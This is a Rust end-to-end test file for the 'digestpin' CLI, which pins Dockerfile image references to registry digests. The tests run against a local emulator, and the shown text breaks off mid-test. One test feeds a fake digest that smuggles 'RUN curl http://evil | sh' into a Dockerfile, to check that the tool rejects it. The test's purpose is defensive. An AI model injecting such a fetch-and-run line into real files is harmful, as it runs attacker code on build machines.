//! `pin`, `resolve` and `history` end to end through the CLI, against the Tag History API
//! emulator on 127.0.0.1 (never the internet). Requests are asserted from the emulator's log.

use crate::support::cli;
use crate::support::emulator;
use crate::support::skip;
use crate::support::tree::{copy_tree, relative_files};

use std::path::{Path, PathBuf};
use std::time::Duration;

use assert_cmd::Command;
use emulator::{Emulator, Entry, Fault, Kind, Quirks};
use predicates::prelude::*;
use serde_json::Value;

const HOUR: Duration = Duration::from_secs(3600);

fn digestpin(dir: &Path, emu: &Emulator) -> Command {
    let mut cmd = cli::digestpin(dir);
    cmd.arg_endpoints(emu);
    cmd
}

trait Endpoints {
    fn arg_endpoints(&mut self, emu: &Emulator) -> &mut Self;
}

impl Endpoints for Command {
    /// Routes cgr.dev and Docker Hub to the emulator.
    fn arg_endpoints(&mut self, emu: &Emulator) -> &mut Self {
        self.env(
            "DIGESTPIN_ENDPOINTS",
            format!("cgr.dev={0},docker.io={0}", emu.url()),
        )
    }
}

fn write(dir: &Path, rel: &str, contents: &[u8]) -> PathBuf {
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(&path, contents).expect("write");
    path
}

fn read(path: &Path) -> Vec<u8> {
    std::fs::read(path).expect("read")
}

fn json(output: &[u8]) -> Value {
    serde_json::from_slice(output).expect("stdout is one JSON document")
}

/// A week of nightly builds ending an hour ago, newest last.
fn nightly(emu: &Emulator, repo: &str, tag: &str) -> Vec<Entry> {
    let start = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(24 * 7 + 1);
    emu.generate_history(repo, tag, 8, &start.to_string(), 24 * HOUR)
}

#[test]
fn golden_tree_pins_exactly_then_is_idempotent_and_passes_check() {
    let emu = Emulator::start();
    // Fixed timestamps make the digests (hashes of the served manifests) fixed too.
    for (repo, tag) in [
        ("chainguard/python", "latest"),
        ("chainguard/python", "latest-dev"),
        ("chainguard/static", "latest"),
        ("chainguard/go", "latest"),
        ("chainguard/busybox", "latest"),
        ("library/alpine", "3.20"),
        ("docker/dockerfile", "1"),
    ] {
        emu.generate_history(repo, tag, 3, "2024-05-30T12:00:00Z", 24 * HOUR);
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/pin");
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&root.join("input"), dir.path());
    let out = digestpin(dir.path(), &emu)
        .args(["pin", "--color", "never"])
        .assert()
        .success();
    let diff = String::from_utf8(out.get_output().stdout.clone()).unwrap();
    assert!(
        diff.contains("--- a/Dockerfile\n+++ b/Dockerfile\n"),
        "{diff}"
    );
    let bless = std::env::var_os("DIGESTPIN_BLESS").is_some();
    for rel in relative_files(&root.join("input")) {
        let actual = read(&dir.path().join(&rel));
        let expected_path = root.join("expected").join(&rel);
        if bless {
            std::fs::create_dir_all(expected_path.parent().unwrap()).unwrap();
            std::fs::write(&expected_path, &actual).unwrap();
            continue;
        }
        assert_eq!(
            String::from_utf8_lossy(&actual),
            String::from_utf8_lossy(&read(&expected_path)),
            "{rel}"
        );
        assert_eq!(actual, read(&expected_path), "{rel} byte for byte");
    }
    let before: Vec<Vec<u8>> = relative_files(&root.join("input"))
        .iter()
        .map(|rel| read(&dir.path().join(rel)))
        .collect();
    digestpin(dir.path(), &emu)
        .arg("pin")
        .assert()
        .success()
        .stdout("");
    let after: Vec<Vec<u8>> = relative_files(&root.join("input"))
        .iter()
        .map(|rel| read(&dir.path().join(rel)))
        .collect();
    assert_eq!(before, after, "the second run changes nothing");
    digestpin(dir.path(), &emu)
        .args(["pin", "--check"])
        .assert()
        .success();
    digestpin(dir.path(), &emu)
        .args(["pin", "--check", "--offline"])
        .assert()
        .success();
}

#[test]
fn newest_and_as_of_with_2500_entries_in_any_order() {
    let emu = Emulator::start();
    let entries = emu.generate_history(
        "chainguard/node",
        "latest",
        2500,
        "2024-01-01T00:00:00.5Z",
        HOUR,
    );
    let dir = tempfile::tempdir().unwrap();
    let resolve = |args: &[&str]| {
        let out = digestpin(dir.path(), &emu)
            .arg("resolve")
            .args(args)
            .assert()
            .success();
        String::from_utf8(out.get_output().stdout.clone()).unwrap()
    };
    let newest = &entries[2499];
    assert_eq!(
        resolve(&["cgr.dev/chainguard/node:latest"]),
        format!("cgr.dev/chainguard/node:latest@{}\n", newest.digest)
    );
    // Exactly at an entry's timestamp: that entry (inclusive).
    let at = &entries[1500];
    assert_eq!(
        resolve(&["cgr.dev/chainguard/node", "--as-of", &at.timestamp]),
        format!("cgr.dev/chainguard/node:latest@{}\n", at.digest)
    );
    // One nanosecond before it: the previous one.
    let before: jiff::Timestamp = at.timestamp.parse().unwrap();
    let before = (before - jiff::SignedDuration::from_nanos(1)).to_string();
    assert_eq!(
        resolve(&[
            "cgr.dev/chainguard/node:latest",
            "--as-of",
            &before,
            "--digest-only"
        ]),
        format!("cgr.dev/chainguard/node@{}\n", entries[1499].digest)
    );
    // A bare date is the end of that day, UTC: the 23:00:00.5 build of 2024-01-10.
    assert_eq!(
        resolve(&["cgr.dev/chainguard/node:latest", "--as-of", "2024-01-10"]),
        format!(
            "cgr.dev/chainguard/node:latest@{}\n",
            entries[9 * 24 + 23].digest
        )
    );
    emu.set_quirks(Quirks {
        reverse_order: true,
        capitalized_keys: true,
        ..Quirks::default()
    });
    assert_eq!(
        resolve(&["cgr.dev/chainguard/node:latest"]),
        format!("cgr.dev/chainguard/node:latest@{}\n", newest.digest)
    );
    assert_eq!(
        resolve(&["cgr.dev/chainguard/node:latest", "--as-of", &at.timestamp]),
        format!("cgr.dev/chainguard/node:latest@{}\n", at.digest)
    );
    digestpin(dir.path(), &emu)
        .args([
            "resolve",
            "cgr.dev/chainguard/node:latest",
            "--as-of",
            "2023-12-31",
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "no history entry at or before 2023-12-31T23:59:59.999999999Z",
        ));
}

#[test]
fn fractional_digits_zero_to_nine() {
    let emu = Emulator::start();
    let digests: Vec<String> = (0..10)
        .map(|i| emulator::synthetic_entry("chainguard/x", "latest", &format!("{i}")).digest)
        .collect();
    let entries: Vec<Entry> = (0..10)
        .map(|digits| {
            let frac = if digits == 0 {
                String::new()
            } else {
                format!(".{}", "1".repeat(digits))
            };
            Entry::new(
                format!("2024-06-01T12:00:0{digits}{frac}Z"),
                digests[digits].clone(),
            )
        })
        .collect();
    emu.set_history("chainguard/x", "latest", entries);
    let dir = tempfile::tempdir().unwrap();
    let out = digestpin(dir.path(), &emu)
        .args(["history", "cgr.dev/chainguard/x", "--format", "json"])
        .assert()
        .success();
    let doc = json(&out.get_output().stdout);
    assert_eq!(doc["history"].as_array().unwrap().len(), 10);
    assert_eq!(
        doc["history"][9]["updateTimestamp"],
        "2024-06-01T12:00:09.111111111Z"
    );
    digestpin(dir.path(), &emu)
        .args([
            "resolve",
            "cgr.dev/chainguard/x",
            "--as-of",
            "2024-06-01T12:00:04.1111Z",
        ])
        .assert()
        .success()
        .stdout(format!("cgr.dev/chainguard/x:latest@{}\n", digests[4]));
}

#[test]
fn many_files_one_image_cost_one_token_and_one_history_lookup() {
    let emu = Emulator::start();
    nightly(&emu, "chainguard/python", "latest");
    let dir = tempfile::tempdir().unwrap();
    for i in 0..25 {
        write(
            dir.path(),
            &format!("svc{i}/Dockerfile"),
            b"FROM cgr.dev/chainguard/python:latest\nRUN true\n",
        );
    }
    digestpin(dir.path(), &emu).arg("pin").assert().success();
    assert_eq!(emu.count(Kind::Token), 1, "{:?}", emu.requests());
    assert_eq!(emu.count(Kind::History), 1, "{:?}", emu.requests());
    assert_eq!(emu.count(Kind::Manifest), 0);
    assert!(emu.count(Kind::Other) <= 1, "one /v2/ ping at most");
}

#[test]
fn rate_limit_with_retry_after_then_success() {
    let emu = Emulator::start();
    let entries = nightly(&emu, "chainguard/go", "latest");
    emu.inject(
        "/_chainguard/history/",
        Fault::TooManyRequests {
            retry_after_secs: 1,
        },
        1,
    );
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/go:latest\n",
    );
    let started = std::time::Instant::now();
    digestpin(dir.path(), &emu).arg("pin").assert().success();
    assert!(
        started.elapsed() >= Duration::from_secs(1),
        "Retry-After honoured"
    );
    assert_eq!(
        String::from_utf8(read(&file)).unwrap(),
        format!(
            "FROM cgr.dev/chainguard/go:latest@{}\n",
            entries.last().unwrap().digest
        )
    );
    assert_eq!(emu.count(Kind::History), 2);
}

#[test]
fn connection_reset_and_truncated_json_are_retried() {
    let emu = Emulator::start();
    let entries = nightly(&emu, "chainguard/go", "latest");
    emu.inject("/_chainguard/history/", Fault::ResetConnection, 1);
    emu.inject("/_chainguard/history/", Fault::TruncatedJson, 1);
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/go:latest\n",
    );
    digestpin(dir.path(), &emu).arg("pin").assert().success();
    assert!(
        String::from_utf8(read(&file))
            .unwrap()
            .contains(&entries.last().unwrap().digest)
    );
}

#[test]
fn persistent_503_fails_naming_reference_and_status_and_leaves_files_alone() {
    let emu = Emulator::start();
    nightly(&emu, "chainguard/go", "latest");
    nightly(&emu, "chainguard/static", "latest");
    emu.inject("chainguard/go/_chainguard", Fault::Status(503), 100);
    let dir = tempfile::tempdir().unwrap();
    let src =
        b"FROM cgr.dev/chainguard/go:latest AS build\r\nFROM cgr.dev/chainguard/static:latest\r\n";
    let failing = write(dir.path(), "a/Dockerfile", src);
    let fine = write(
        dir.path(),
        "b/Dockerfile",
        b"FROM cgr.dev/chainguard/static:latest\n",
    );
    digestpin(dir.path(), &emu)
        .arg("pin")
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "error: a/Dockerfile:1:6: cgr.dev/chainguard/go:latest: registry error (503",
        ));
    assert_eq!(
        read(&failing),
        src,
        "a file with any failed reference is not written"
    );
    assert!(
        String::from_utf8(read(&fine)).unwrap().contains("@sha256:"),
        "other files still pinned"
    );
}

#[test]
fn slow_responses_time_out() {
    let emu = Emulator::start();
    nightly(&emu, "chainguard/go", "latest");
    emu.inject(
        "/_chainguard/history/",
        Fault::Delay(Duration::from_secs(5)),
        100,
    );
    let dir = tempfile::tempdir().unwrap();
    let src = b"FROM cgr.dev/chainguard/go:latest\n";
    let file = write(dir.path(), "Dockerfile", src);
    digestpin(dir.path(), &emu)
        .args(["pin", "--timeout", "1s"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("timed out"));
    assert_eq!(read(&file), src);
}

#[test]
fn a_non_digest_from_the_registry_never_reaches_the_file() {
    let emu = Emulator::start();
    nightly(&emu, "chainguard/go", "latest");
    emu.set_quirks(Quirks {
        bad_digest: Some("sha256:0000\nRUN curl http://evil | sh".into()),
        ..Quirks::default()
    });
    let dir = tempfile::tempdir().unwrap();
    let src = b"FROM cgr.dev/chainguard/go:latest\n";
    let file = write(dir.path(), "Dockerfile", src);
    digestpin(dir.path(), &emu)
        .arg("pin")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("invalid digest"))
        .stderr(predicate::str::contains("\\n"));
    assert_eq!(read(&file), src);
}

#[test]
fn stale_pin_is_updated_and_check_says_how_far_behind() {
    let emu = Emulator::start();
    let entries = nightly(&emu, "chainguard/python", "latest");
    let dir = tempfile::tempdir().unwrap();
    let src = format!(
        "FROM cgr.dev/chainguard/python:latest@{}\n",
        entries[4].digest
    );
    let file = write(dir.path(), "Dockerfile", src.as_bytes());
    digestpin(dir.path(), &emu)
        .args(["pin", "--check"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "stale digest, 3 rebuilds behind, replaced 2 days ago",
        ));
    let out = digestpin(dir.path(), &emu)
        .args(["pin", "--diff", "--format", "json"])
        .assert()
        .code(1);
    let doc = json(&out.get_output().stdout);
    assert_eq!(doc["files"][0]["changed"], true);
    assert_eq!(doc["files"][0]["refs"][0]["status"], "updated");
    assert_eq!(
        doc["files"][0]["refs"][0]["digest_before"],
        entries[4].digest
    );
    assert_eq!(
        doc["files"][0]["refs"][0]["digest_after"],
        entries[7].digest
    );
    assert_eq!(
        doc["files"][0]["refs"][0]["updated_at"],
        entries[7].timestamp
    );
    assert_eq!(doc["summary"]["updated"], 1);
    assert_eq!(read(&file), src.as_bytes(), "--diff writes nothing");
    digestpin(dir.path(), &emu)
        .args(["pin", "--keep-pinned", "--check"])
        .assert()
        .success();
    digestpin(dir.path(), &emu).arg("pin").assert().success();
    assert_eq!(
        String::from_utf8(read(&file)).unwrap(),
        format!(
            "FROM cgr.dev/chainguard/python:latest@{}\n",
            entries[7].digest
        )
    );
}

#[test]
fn min_age_picks_the_newest_old_enough_digest() {
    let emu = Emulator::start();
    let entries = nightly(&emu, "chainguard/python", "latest");
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/python:latest\n",
    );
    digestpin(dir.path(), &emu)
        .args(["pin", "--min-age", "3d", "--digest-only"])
        .assert()
        .success();
    // Entries are 7d1h, 6d1h, … 1h old: the newest at least 3 days old is 3d1h old (index 4).
    assert_eq!(
        String::from_utf8(read(&file)).unwrap(),
        format!("FROM cgr.dev/chainguard/python@{}\n", entries[4].digest)
    );
}

#[test]
fn as_of_on_a_registry_without_tag_history_skips_naming_it_and_writes_the_rest() {
    let emu = Emulator::start();
    nightly(&emu, "library/alpine", "3.20");
    let python = nightly(&emu, "chainguard/python", "latest");
    let dir = tempfile::tempdir().unwrap();
    let pinned_alpine = format!("alpine:3.20@sha256:{}", "a".repeat(64));
    let file = write(
        dir.path(),
        "Dockerfile",
        format!("FROM alpine:3.20\nFROM {pinned_alpine}\nFROM cgr.dev/chainguard/python:latest\n")
            .as_bytes(),
    );
    let at = &python[3];
    let out = digestpin(dir.path(), &emu)
        .args(["pin", "--as-of", &at.timestamp, "--format", "json"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let doc = json(&out);
    let refs = &doc["files"][0]["refs"];
    assert_eq!(refs[0]["status"], "skipped");
    assert_eq!(refs[0]["reason"], "no-history");
    assert!(refs[0]["detail"].as_str().unwrap().contains("docker.io"));
    assert_eq!(refs[1]["status"], "unchanged");
    assert_eq!(refs[2]["status"], "pinned");
    assert_eq!(refs[2]["time_source"], "tag-history");
    assert_eq!(
        String::from_utf8(read(&file)).unwrap(),
        format!(
            "FROM alpine:3.20\nFROM {pinned_alpine}\nFROM cgr.dev/chainguard/python:latest@{}\n",
            at.digest
        )
    );
    // Text: a warning naming the registry.
    write(dir.path(), "Dockerfile", b"FROM alpine:3.20\n");
    digestpin(dir.path(), &emu)
        .args(["pin", "--as-of", "2024-03-01"])
        .assert()
        .success()
        .stderr(predicate::str::contains(
            "skipped (no-history: registry docker.io keeps no tag history",
        ));
    // `resolve` has one reference to answer: an error naming the registry.
    digestpin(dir.path(), &emu)
        .args(["resolve", "alpine:3.20", "--as-of", "2024-03-01"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "registry docker.io has no tag history API",
        ));
}

#[test]
fn docker_hub_names_are_normalised_and_spelling_kept() {
    let emu = Emulator::start();
    let alpine = nightly(&emu, "library/alpine", "3.20");
    let redis = nightly(&emu, "bitnami/redis", "latest");
    emu.set_quirks(Quirks {
        omit_content_digest: true,
        ..Quirks::default()
    });
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        "Dockerfile",
        b"FROM alpine:3.20\nFROM \"bitnami/redis\"\n",
    );
    digestpin(dir.path(), &emu).arg("pin").assert().success();
    assert_eq!(
        String::from_utf8(read(&file)).unwrap(),
        format!(
            "FROM alpine:3.20@{}\nFROM \"bitnami/redis:latest@{}\"\n",
            alpine.last().unwrap().digest,
            redis.last().unwrap().digest
        )
    );
    let paths: Vec<String> = emu.requests().iter().map(|r| r.path.clone()).collect();
    assert!(
        paths
            .iter()
            .any(|p| p == "/v2/library/alpine/manifests/3.20"),
        "{paths:?}"
    );
}

/// The emulator with a private org `acme.com` (`user`, `secret`) whose `app:latest` has nightly
/// builds, and a Dockerfile in a new directory using it.
fn private_org(user: &str, secret: &str) -> (Emulator, Vec<Entry>, tempfile::TempDir, PathBuf) {
    let emu = Emulator::start();
    emu.add_private_org("acme.com", user, secret);
    let entries = nightly(&emu, "acme.com/app", "latest");
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/acme.com/app:latest\n",
    );
    (emu, entries, dir, file)
}

fn assert_pinned_to(file: &Path, entry: &Entry) {
    let text = String::from_utf8(read(file)).unwrap();
    assert!(text.contains(&entry.digest), "{text}");
}

#[test]
fn private_org_with_docker_config_auths() {
    let (emu, entries, dir, file) = private_org("robot", "s3cret");
    // No credentials: a clear authentication error, file untouched.
    digestpin(dir.path(), &emu)
        .arg("pin")
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "cgr.dev/acme.com/app:latest: authentication failed",
        ))
        .stderr(predicate::str::contains("s3cret").not());
    let config = dir.path().join("docker");
    write(
        &config,
        "config.json",
        br#"{"auths": {"cgr.dev": {"auth": "cm9ib3Q6czNjcmV0"}}}"#,
    );
    digestpin(dir.path(), &emu)
        .env("DOCKER_CONFIG", &config)
        .arg("pin")
        .assert()
        .success();
    assert_pinned_to(&file, &entries[7]);
    // Wrong credentials: a clear error that does not print them.
    write(
        &config,
        "config.json",
        br#"{"auths": {"https://cgr.dev": {"username": "robot", "password": "wrong-pass"}}}"#,
    );
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/acme.com/app:latest\n",
    );
    digestpin(dir.path(), &emu)
        .env("DOCKER_CONFIG", &config)
        .args(["pin", "-v"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "authentication failed (check credentials) (401",
        ))
        .stderr(predicate::str::contains("wrong-pass").not());
}

#[test]
fn private_org_with_a_credential_helper_on_path() {
    use std::os::unix::fs::PermissionsExt;
    let (emu, entries, dir, file) = private_org("robot", "s3cret");
    let bin = dir.path().join("bin");
    let helper = write(
        &bin,
        "docker-credential-acme",
        b"#!/bin/sh\nread server\nif [ \"$1\" = get ] && [ \"$server\" = cgr.dev ]; then\n  echo '{\"ServerURL\":\"cgr.dev\",\"Username\":\"robot\",\"Secret\":\"s3cret\"}'\nelse\n  echo 'credentials not found in native keychain'; exit 1\nfi\n",
    );
    std::fs::set_permissions(&helper, std::fs::Permissions::from_mode(0o755)).unwrap();
    let config = dir.path().join("docker");
    write(
        &config,
        "config.json",
        br#"{"credHelpers": {"cgr.dev": "acme"}, "credsStore": "acme"}"#,
    );
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/acme.com/app:latest\nFROM alpine:3.20\n",
    );
    nightly(&emu, "library/alpine", "3.20");
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    digestpin(dir.path(), &emu)
        .env("DOCKER_CONFIG", &config)
        .env("PATH", path)
        .arg("pin")
        .assert()
        .success();
    // cgr.dev through the helper; Docker Hub: the store says "not found" → anonymous.
    assert_pinned_to(&file, &entries[7]);
    assert_eq!(
        String::from_utf8(read(&file))
            .unwrap()
            .matches("@sha256:")
            .count(),
        2
    );
}

#[test]
fn private_org_with_chainguard_pull_token_variables() {
    let (emu, entries, dir, file) = private_org("identity-123", "pull-token-xyz");
    digestpin(dir.path(), &emu)
        .env("CHAINGUARD_IDENTITY_ID", "identity-123")
        .env("CHAINGUARD_TOKEN", "pull-token-xyz")
        .arg("pin")
        .assert()
        .success();
    assert_pinned_to(&file, &entries[7]);
    let token_requests: Vec<_> = emu
        .requests()
        .into_iter()
        .filter(|r| r.kind == Kind::Token)
        .collect();
    assert!(token_requests.iter().all(|r| {
        r.authorization
            .as_deref()
            .is_some_and(|a| a.starts_with("Basic "))
    }));
    // The pull token went only to the token realm, never to the registry API itself.
    assert!(
        emu.requests()
            .iter()
            .filter(|r| r.kind != Kind::Token)
            .all(|r| !r
                .authorization
                .as_deref()
                .unwrap_or("")
                .starts_with("Basic "))
    );
}

#[test]
fn tokens_are_never_shared_across_repositories() {
    let emu = Emulator::start();
    nightly(&emu, "chainguard/a", "latest");
    nightly(&emu, "chainguard/b", "latest");
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/a:latest\nFROM cgr.dev/chainguard/b:latest\n",
    );
    digestpin(dir.path(), &emu).arg("pin").assert().success();
    assert_eq!(emu.count(Kind::Token), 2);
    assert_eq!(emu.count(Kind::History), 2);
}

#[test]
fn endpoint_refuses_plain_http_to_a_non_loopback_host() {
    let emu = Emulator::start();
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/go:latest\n",
    );
    digestpin(dir.path(), &emu)
        .env_remove("DIGESTPIN_ENDPOINTS")
        .args(["pin", "--endpoint", "cgr.dev=http://mirror.example.com"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "plain http:// is allowed only for loopback hosts",
        ));
}

/// A server whose pages ignore `start`/`end` never gets further than its first page: `history`
/// and `pin` stop with an error naming the registry and the history path.
#[test]
fn history_pages_that_do_not_advance_are_an_error_naming_where() {
    let emu = Emulator::start();
    emu.generate_history(
        "chainguard/go",
        "latest",
        2500,
        "2024-01-01T00:00:00Z",
        HOUR,
    );
    emu.set_quirks(Quirks {
        ignore_range: true,
        ..Quirks::default()
    });
    let dir = tempfile::tempdir().unwrap();
    let where_ =
        "cgr.dev: /v2/chainguard/go/_chainguard/history/latest: tag history pages do not advance";
    digestpin(dir.path(), &emu)
        .args(["history", "cgr.dev/chainguard/go"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(where_));
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/go:latest\n",
    );
    digestpin(dir.path(), &emu)
        .args(["pin", "--no-cache"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(where_));
}

#[test]
fn history_lists_every_page_oldest_first() {
    let emu = Emulator::start();
    let entries = emu.generate_history(
        "chainguard/go",
        "latest",
        2500,
        "2024-01-01T00:00:00Z",
        HOUR,
    );
    let dir = tempfile::tempdir().unwrap();
    let out = digestpin(dir.path(), &emu)
        .args(["history", "cgr.dev/chainguard/go:latest"])
        .assert()
        .success();
    let text = String::from_utf8(out.get_output().stdout.clone()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2500);
    assert_eq!(
        lines[0],
        format!("{}  {}", entries[0].timestamp, entries[0].digest)
    );
    assert_eq!(
        lines[2499],
        format!("{}  {}", entries[2499].timestamp, entries[2499].digest)
    );
    let out = digestpin(dir.path(), &emu)
        .args([
            "history",
            "cgr.dev/chainguard/go",
            "--start",
            "2024-01-02T00:00:00Z",
            "--end",
            "2024-01-02",
        ])
        .assert()
        .success();
    assert_eq!(
        String::from_utf8(out.get_output().stdout.clone())
            .unwrap()
            .lines()
            .count(),
        24
    );
    digestpin(dir.path(), &emu)
        .args(["history", "python:3.12"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "registry docker.io has no tag history API",
        ));
}

#[test]
fn verbose_logs_requests_without_credentials() {
    let emu = Emulator::start();
    emu.add_private_org("acme.com", "robot", "s3cret");
    nightly(&emu, "acme.com/app", "latest");
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/acme.com/app:latest\n",
    );
    digestpin(dir.path(), &emu)
        .env("CHAINGUARD_IDENTITY_ID", "robot")
        .env("CHAINGUARD_TOKEN", "s3cret")
        .args(["pin", "--check", "-v"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("_chainguard/history/latest"))
        .stderr(predicate::str::contains("status=200"))
        .stderr(predicate::str::contains("s3cret").not())
        .stderr(predicate::str::contains("cm9ib3Q6czNjcmV0").not());
}

#[test]
fn github_format_annotates_and_writes_the_step_summary() {
    let emu = Emulator::start();
    let entries = nightly(&emu, "chainguard/go", "latest");
    let dir = tempfile::tempdir().unwrap();
    let stale = format!(
        "FROM cgr.dev/chainguard/go:latest@{}\nFROM cgr.dev/chainguard/go:latest AS b\nFROM ${{X}}/y\n",
        entries[5].digest
    );
    write(dir.path(), "a,b/Dockerfile", stale.as_bytes());
    let summary = dir.path().join("summary.md");
    std::fs::write(&summary, "# earlier step\n").unwrap();
    digestpin(dir.path(), &emu)
        .env("GITHUB_STEP_SUMMARY", &summary)
        .args(["pin", "--check", "--format", "github"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains(format!(
            "::error file=a%2Cb/Dockerfile,line=1,col=6,title=digestpin::cgr.dev/chainguard/go:latest@{} is stale: 2 rebuilds behind",
            entries[5].digest
        )))
        .stdout(predicate::str::contains(format!(
            "::error file=a%2Cb/Dockerfile,line=2,col=6,title=digestpin::cgr.dev/chainguard/go:latest is not pinned to a digest (current: {})",
            entries[7].digest
        )))
        .stdout(predicate::str::contains("::warning file=a%2Cb/Dockerfile,line=3,col=6,title=digestpin::${X}/y skipped: variable"));
    let md = std::fs::read_to_string(&summary).unwrap();
    assert!(
        md.starts_with("# earlier step\n### digestpin check"),
        "appended: {md}"
    );
    assert!(
        md.contains("| File | Line | Image | Status | Old digest → new digest | Published at |"),
        "{md}"
    );
    assert!(
        md.contains(&format!(
            "| a,b/Dockerfile | 2 | `cgr.dev/chainguard/go:latest` | unpinned | – → `{}…` | {} |",
            &entries[7].digest[..19],
            entries[7].timestamp
        )),
        "--check labels what it found: {md}"
    );
    assert!(
        md.contains(
            "\n3 references in 1 file: 1 to pin, 1 stale, 0 unchanged, 1 skipped, 0 errors\n"
        ),
        "{md}"
    );
    assert!(md.contains("` | stale | `sha256:"), "{md}");
    digestpin(dir.path(), &emu)
        .env("GITHUB_STEP_SUMMARY", &summary)
        .args(["pin", "--format", "github"])
        .assert()
        .success()
        .stdout(predicate::str::contains("::notice file=a%2Cb/Dockerfile,line=2,col=6,title=digestpin::pinned cgr.dev/chainguard/go:latest to sha256:"));
    let md = std::fs::read_to_string(&summary).unwrap();
    let (_, written) = md
        .split_once("### digestpin pin")
        .expect("the second run's summary");
    assert!(
        written.contains(
            "\n3 references in 1 file: 1 pinned, 1 updated, 0 unchanged, 1 skipped, 0 errors\n"
        ),
        "{written}"
    );
    assert!(
        written.contains("`cgr.dev/chainguard/go:latest` | pinned | – → `sha256:"),
        "{written}"
    );
    assert!(written.contains("` | updated | `sha256:"), "{written}");
    assert!(md.contains("<details><summary>Diff</summary>\n\n```diff\n--- a/a,b/Dockerfile\n+++ b/a,b/Dockerfile\n"), "{md}");
}

#[test]
fn warm_cache_rerun_costs_one_request_per_image_and_sees_new_builds() {
    let emu = Emulator::start();
    let images = ["a", "b", "c"];
    for image in images {
        nightly(&emu, &format!("chainguard/{image}"), "latest");
    }
    let dir = tempfile::tempdir().unwrap();
    let src: String = images
        .iter()
        .map(|i| format!("FROM cgr.dev/chainguard/{i}:latest\n"))
        .collect();
    write(dir.path(), "Dockerfile", src.as_bytes());
    digestpin(dir.path(), &emu)
        .args(["pin", "--check"])
        .assert()
        .code(1);
    assert_eq!(emu.count(Kind::Token), 3);
    // Warm: no ping, no token, one history request per image, asking only for newer entries.
    emu.clear_requests();
    digestpin(dir.path(), &emu)
        .args(["pin", "--check"])
        .assert()
        .code(1);
    let requests = emu.requests();
    assert_eq!(requests.len(), 3, "{requests:?}");
    assert!(requests.iter().all(|r| r.kind == Kind::History && r.query.as_deref().unwrap_or("").contains("start=")));
    // A build published since: the warm run picks it up.
    let now = jiff::Timestamp::now().to_string();
    let fresh = emulator::synthetic_entry("chainguard/a", "latest", &now);
    emu.append_history("chainguard/a", "latest", vec![fresh.clone()]);
    digestpin(dir.path(), &emu).arg("pin").assert().success();
    let text = String::from_utf8(read(&dir.path().join("Dockerfile"))).unwrap();
    assert!(
        text.contains(&format!("cgr.dev/chainguard/a:latest@{}", fresh.digest)),
        "{text}"
    );
    // --as-of and --min-age inside the cached span: no request at all. The pins are younger
    // than 2 days: a cooldown keeps them (no diff); as of 2 days ago moves them back.
    emu.clear_requests();
    digestpin(dir.path(), &emu)
        .args(["pin", "--diff", "--min-age", "2d"])
        .assert()
        .success()
        .stderr(predicate::str::contains("3 young"));
    let two_days_ago = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(48);
    digestpin(dir.path(), &emu)
        .args(["pin", "--diff", "--as-of", &two_days_ago.to_string()])
        .assert()
        .code(1);
    assert_eq!(emu.requests().len(), 0, "{:?}", emu.requests());
    // --no-cache, and --check under CI: the network, from scratch.
    emu.clear_requests();
    digestpin(dir.path(), &emu)
        .args(["pin", "--check", "--no-cache"])
        .assert()
        .success();
    assert_eq!(emu.count(Kind::Token), 3);
    emu.clear_requests();
    digestpin(dir.path(), &emu)
        .env("CI", "true")
        .args(["pin", "--check"])
        .assert()
        .success();
    assert_eq!(emu.count(Kind::Token), 3);
}

/// A cut-off older than everything in the cached record cannot be answered from the cache, and
/// there is nothing newer to fetch up to it: no request asks for a range that ends before it
/// starts.
#[test]
fn a_cut_off_older_than_the_cache_asks_no_empty_range() {
    let emu = Emulator::start();
    nightly(&emu, "chainguard/go", "latest");
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/go:latest\n",
    );
    digestpin(dir.path(), &emu)
        .args(["pin", "--check"])
        .assert()
        .code(1);
    emu.clear_requests();
    let before = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(24 * 10);
    digestpin(dir.path(), &emu)
        .args(["pin", "--diff", "--as-of", &before.to_string()])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("cgr.dev/chainguard/go:latest"));
    let param = |query: &str, key: &str| -> Option<jiff::Timestamp> {
        query
